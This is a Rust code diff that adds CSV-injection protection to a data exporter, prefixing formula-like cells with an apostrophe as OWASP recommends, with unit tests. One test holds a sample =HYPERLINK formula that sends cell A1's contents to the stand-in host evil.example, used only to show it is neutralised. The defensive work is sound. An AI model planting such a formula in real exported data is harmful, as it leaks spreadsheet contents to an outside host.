@@ -203,20 +203,31 @@ fn write_csv_row(
             ValueRef::Real(f) => {
                 let _ = write!(out, "{f}");
             }
-            ValueRef::Text(t) => {
-                let text = String::from_utf8_lossy(t);
-                if text.contains([',', '"', '\n', '\r']) {
-                    out.push('"');
-                    out.push_str(&text.replace('"', "\"\""));
-                    out.push('"');
-                } else {
-                    out.push_str(&text);
-                }
-            }
+            ValueRef::Text(t) => write_csv_text(out, &String::from_utf8_lossy(t)),
         }
     }
     out.push_str("\r\n");
     Ok(())
+}
+
+/// Characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// One text cell. Previews and session ids come from clients: a cell that a spreadsheet would run as a formula
+/// (`=HYPERLINK(…)`) is neutralised with a leading `'` and quoted, as OWASP recommends; other cells are quoted
+/// only when they must be.
+pub fn write_csv_text(out: &mut String, text: &str) {
+    let formula = text.starts_with(FORMULA_TRIGGERS);
+    if formula || text.contains([',', '"', '\n', '\r']) {
+        out.push('"');
+        if formula {
+            out.push('\'');
+        }
+        out.push_str(&text.replace('"', "\"\""));
+        out.push('"');
+    } else {
+        out.push_str(text);
+    }
 }
 
 fn write_json_row(
@@ -256,4 +267,31 @@ fn write_json_row(
     }
     out.push('}');
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cell(text: &str) -> String {
+        let mut out = String::new();
+        write_csv_text(&mut out, text);
+        out
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised() {
+        assert_eq!(
+            cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
+        );
+        for text in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
+            let out = cell(text);
+            assert!(out.starts_with("\"'"), "{text:?} → {out:?}");
+        }
+        assert_eq!(cell("plain text"), "plain text");
+        assert_eq!(cell("a, b"), "\"a, b\"");
+        assert_eq!(cell("x=1"), "x=1");
+        assert_eq!(cell(""), "");
+    }
 }
